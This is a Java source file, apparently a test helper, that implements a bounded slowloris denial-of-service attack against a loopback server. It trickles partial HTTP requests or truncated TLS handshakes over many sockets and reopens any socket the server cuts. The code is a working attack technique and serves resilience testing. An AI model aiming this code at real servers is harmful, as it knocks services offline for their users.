package dev.tripline.collector.http;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The slowloris attack of issue 21 case 6: {@code perAddress} sockets from each of {@code from},
 * each sending the start of a request (or of a TLS ClientHello) and then one byte per tick, never
 * finishing. A socket the server cuts is reopened, as a real attacker would, until {@code maxOpens}
 * sockets were opened in all or {@code maxRun} has passed: it stops by itself.
 */
final class Slowloris implements AutoCloseable {
  private static final byte[] HTTP_START =
      "GET /api/services HTTP/1.1\r\nHost: t\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);

  /** A TLS handshake record announcing 16 KiB that never arrive. */
  private static final byte[] TLS_START = {0x16, 0x03, 0x01, 0x40, 0x00, 0x01};

  private final int port;
  private final boolean tls;
  private final List<InetAddress> from;
  private final int perAddress;
  private final int maxOpens;
  private final long endNanos;
  private final Socket[] sockets;
  private final AtomicInteger opened = new AtomicInteger();
  private final AtomicInteger cut = new AtomicInteger();
  private final ScheduledExecutorService ticker = Executors.newSingleThreadScheduledExecutor();
  private volatile boolean stopped;

  Slowloris(
      int port,
      boolean tls,
      List<InetAddress> from,
      int perAddress,
      Duration tick,
      Duration maxRun,
      int maxOpens) {
    this.port = port;
    this.tls = tls;
    this.from = from;
    this.perAddress = perAddress;
    this.maxOpens = maxOpens;
    this.endNanos = System.nanoTime() + maxRun.toNanos();
    this.sockets = new Socket[from.size() * perAddress];
    var unused =
        ticker.scheduleWithFixedDelay(this::tick, 0, tick.toMillis(), TimeUnit.MILLISECONDS);
  }

  /** Sockets opened so far (the first wave and reopenings). */
  int opened() {
    return opened.get();
  }

  /** Sockets the server closed while they were still trickling. */
  int cut() {
    return cut.get();
  }

  private void tick() {
    if (System.nanoTime() > endNanos) {
      stopped = true;
      closeSockets();
      ticker.shutdown();
      return;
    }
    for (int i = 0; i < sockets.length && !stopped; i++) {
      Socket s = sockets[i];
      try {
        if (s == null) {
          if (opened.get() >= maxOpens) continue;
          sockets[i] = open(from.get(i / perAddress));
        } else {
          s.getOutputStream().write('a');
          s.getOutputStream().flush();
        }
      } catch (IOException e) {
        if (s != null) {
          cut.incrementAndGet();
          quietly(s);
        }
        sockets[i] = null;
      }
    }
  }

  private Socket open(InetAddress local) throws IOException {
    Socket s = new Socket();
    try {
      s.bind(new InetSocketAddress(local, 0));
      s.connect(new InetSocketAddress(RawHttp.loopback(1), port), 2000);
      opened.incrementAndGet();
      s.getOutputStream().write(tls ? TLS_START : HTTP_START);
      s.getOutputStream().flush();
      return s;
    } catch (IOException e) {
      quietly(s);
      throw e;
    }
  }

  private static void quietly(Socket s) {
    try {
      s.close();
    } catch (IOException ignored) {
      // closing anyway
    }
  }

  /** Stops the attack and closes its sockets (waits for a tick under way). */
  @Override
  public void close() {
    stopped = true;
    ticker.shutdown();
    try {
      ticker.awaitTermination(10, TimeUnit.SECONDS);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    closeSockets();
  }

  private void closeSockets() {
    for (int i = 0; i < sockets.length; i++) {
      if (sockets[i] != null) quietly(sockets[i]);
      sockets[i] = null;
    }
  }
}
